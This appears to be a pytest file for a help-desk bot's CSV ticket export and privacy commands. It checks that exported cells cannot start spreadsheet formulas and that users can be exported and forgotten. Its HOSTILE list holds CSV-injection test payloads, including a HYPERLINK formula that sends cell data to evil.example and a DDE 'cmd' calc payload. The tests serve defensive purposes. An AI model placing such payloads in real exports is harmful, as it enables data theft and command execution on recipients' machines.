"""desk export tickets: CSV that a spreadsheet reads and that can do nothing there; and desk privacy."""

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import insert

from adapters.db import export as pages
from adapters.db import tables
from adapters.db.privacy import MARKS_FILE, read_marks
from adapters.db.store import Store, open_to_read
from bot.backup import Refused
from bot.export import BEGINS, beginning, harmless, lines, new_file
from core.model.organisation import Organisation
from core.model.proposal import WordCounter
from core.service import ownership, progress
from tests.adapters.test_store import file
from tests.bot.conftest import Desk
from tests.conftest import HandClock
from tests.examples import examples

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1",
    " =cmd|' /C calc'!A0", 'fine"; =1+1', "fine;-1+1", "fine;\"=1+1", "Cafés, 日本 🔥\u2028“quoted”", 'say "hi", twice',
]  # fmt: skip


@pytest.mark.parametrize("subject", HOSTILE)
def test_no_cell_begins_a_formula_however_it_is_split(subject: str) -> None:
    written = lines([[1001, subject]])
    (row,) = csv.reader(io.StringIO(written, newline=""))
    assert row[0] == "1001"
    assert row[1].replace("'", "") == subject.replace("'", "")  # nothing else is changed
    for separator in (",", ";", "\t"):
        for cells in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            assert not [cell for cell in cells if cell.strip(' "').startswith(BEGINS)]


@settings(max_examples=examples(100), deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_what_is_written_is_read_back_but_for_apostrophes(cells: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(lines([cells]), newline=""))
    assert [cell.replace("'", "") for cell in row] == [cell.replace("'", "").replace("\x00", "") for cell in cells]
    assert not any(cell.startswith(BEGINS) for cell in row)


def test_an_ordinary_subject_is_left_as_it_is() -> None:
    for subject in ("It fails, -1 is returned", "a@b.example does not get mail", "1 + 1 = 2; so what", ""):
        assert harmless(subject) == subject


def test_since_is_a_span_or_a_date_and_else_it_is_said() -> None:
    now = datetime(2026, 3, 31, 12, tzinfo=UTC)
    assert beginning("30d", now) == datetime(2026, 3, 1, 12, tzinfo=UTC)
    assert beginning("2026-03-02", now) == datetime(2026, 3, 2, tzinfo=UTC)
    with pytest.raises(Refused, match="--since is a span"):
        beginning("yesterday", now)


async def a_store(desk: Desk, organisation: Organisation, clock: HandClock) -> Store:
    store = Store(
        f"sqlite+aiosqlite:///{desk.folder / 'data' / 'desk.db'}", organisation=organisation,
        classifier=WordCounter(), time=clock,
    )  # fmt: skip
    await store.open()
    return store


async def test_tickets_are_exported_beside_a_desk_that_runs(
    desk: Desk, organisation: Organisation, clock: HandClock
) -> None:
    clock.present = datetime.now(UTC) - timedelta(days=40)
    store = await a_store(desk, organisation, clock)
    await file(store, "Too long ago")
    clock.advance(days=20)
    number = await file(store, "=1+1 сломалось", "telegram/1002")
    async with store.work() as uow:
        await ownership.accept(uow, number, by=organisation.people[0])
        await progress.resolve(uow, number, "Mended", by=organisation.people[0])
    said = await desk("export", "tickets", "--out", "tickets.csv")
    printed = await desk("export", "tickets", "--since", "60d")
    await store.close()
    with pytest.raises(Refused, match="is there already"):
        new_file(desk.folder / "tickets.csv")
    assert (said.code, said.err) == (0, "")
    assert (desk.folder / "tickets.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO((desk.folder / "tickets.csv").read_text("utf-8-sig")))
    assert (row["number"], row["state"], row["priority"]) == (str(number), "resolved", "P3")
    assert (row["owner"], row["subject"]) == (organisation.people[0].name, "'=1+1 сломалось")
    assert (row["first_answer_promise"], row["resolution_promise"]) == ("met", "met")
    assert row["opened_utc"] == f"{clock.now():%Y-%m-%d %H:%M:%S}"
    assert printed.out.startswith('"number"')
    assert len(list(csv.DictReader(io.StringIO(printed.out)))) == 2


async def test_memory_does_not_grow_with_the_number_of_tickets(
    sqlite_url: str, organisation: Organisation, clock: HandClock
) -> None:
    store = Store(sqlite_url, organisation=organisation, classifier=WordCounter(), time=clock)
    await store.open()
    await file(store)
    async with store.engine.connect() as connection:
        (ticket,) = (await connection.execute(tables.ticket.select())).mappings().all()
    many = [{**ticket, "number": n, "subject": "x" * 80, "thread": None} for n in range(2001, 2001 + 6_000)]
    async with store.engine.execution_options(readonly=False).begin() as connection:
        await connection.execute(insert(tables.ticket), many)
    await store.close()
    del many
    engine, sizes, count = await open_to_read(sqlite_url), [], 0
    tracemalloc.start()
    async for page in pages.tickets(engine, clock.now()):
        count += len(page)
        lines(page)
        sizes.append(tracemalloc.get_traced_memory()[0])
    tracemalloc.stop()
    await engine.dispose()
    assert count == 6_001
    assert sizes[-2] < sizes[1] * 1.5


async def test_an_operator_exports_and_forgets_somebody_on_the_command_line(
    desk: Desk, organisation: Organisation, clock: HandClock
) -> None:
    desk.set_up(DESK_BACKUP_FOLDER="backups")
    store = await a_store(desk, organisation, clock)
    await file(store, "About Zanzibar")
    said = await desk("privacy", "export", "--telegram", "1001")
    assert json.loads(said.out)["tickets"][0]["subject"] == "About Zanzibar"
    refused = await desk("privacy", "forget", "--telegram", "1001", "--yes")
    assert "Stop it first" in refused.err
    await store.close()
    assert "is forgotten" in (await desk("privacy", "forget", "--telegram", "1001", "--yes")).out
    again = await desk("privacy", "export", "--telegram", "1001")
    assert (again.code, again.err) == (1, "✗ Nothing is kept of 1001 in Telegram.\n")
    assert len(read_marks(desk.folder / "backups" / MARKS_FILE)) == 1
